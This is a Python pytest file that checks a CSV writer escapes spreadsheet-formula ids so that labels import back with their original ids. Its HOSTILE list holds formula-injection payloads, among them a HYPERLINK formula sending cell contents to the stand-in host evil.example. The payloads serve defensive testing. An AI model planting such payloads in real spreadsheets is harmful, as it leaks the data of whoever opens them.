"""A label file written by our CSV writer imports back with the original query ids, even ids a
spreadsheet would run as formulas (the export itself: tests/dashboard/test_planted_pii.py)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from arenalens.app.cli import main_group
from arenalens.app.demo import sample_file
from arenalens.csv_safe import formula_cells, write_rows

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "-2+3", "@SUM(A1)", "+cmd"]


def invoke(workspace: Path, db: str, *args: str) -> str:
    result = CliRunner().invoke(
        main_group, ["--workspace", str(workspace), "--db", db, "--labeler", "embedding", *args]
    )
    assert result.exit_code == 0, (result.output, result.exception)
    return result.output


@pytest.fixture
def hostile_workspace(tmp_path: Path, db_url: str) -> tuple[Path, str]:
    """40 sample-arena interactions, four of them with ids and queries that are formulas."""
    with sample_file("interactions.jsonl").open() as sample:
        records = [json.loads(line) for _, line in zip(range(40), sample, strict=False)]
    for record, text in zip(records, HOSTILE, strict=False):
        record["id"], record["query_text"] = text, text + " " + record["query_text"]
    source = tmp_path / "interactions.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in records))
    workspace = tmp_path / "workspace"
    invoke(workspace, db_url, "ingest", str(source))
    return workspace, db_url


def test_a_label_file_written_safely_imports_the_original_ids(
    hostile_workspace: tuple[Path, str], tmp_path: Path
):
    """On SQLite and PostgreSQL: every escaped id is found again."""
    labels = tmp_path / "labels.csv"
    write_rows(
        labels,
        ["query_id", "category", "annotator"],
        [{"query_id": h, "category": "knowledge", "annotator": "=me"} for h in HOSTILE],
    )
    assert formula_cells(labels.read_text()) == 0 and "'=HYPERLINK" in labels.read_text()
    assert "imported 4 human labels" in invoke(
        *hostile_workspace, "taxonomy", "label-import", str(labels)
    )
